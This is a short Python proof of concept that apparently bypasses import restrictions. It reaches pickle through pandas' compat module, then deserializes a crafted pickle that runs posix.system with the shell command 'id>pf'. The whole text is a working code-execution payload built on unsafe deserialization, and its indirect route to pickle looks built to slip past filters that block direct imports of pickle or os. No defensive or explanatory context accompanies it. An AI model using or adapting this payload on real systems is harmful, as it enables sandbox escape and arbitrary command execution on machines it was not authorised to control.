import pandas
def f(**libs):
    return libs["p"].compat.pickle_compat.pkl
f(p=pandas).loads(b"cposix\nsystem\n(S'id>pf'\ntR.")
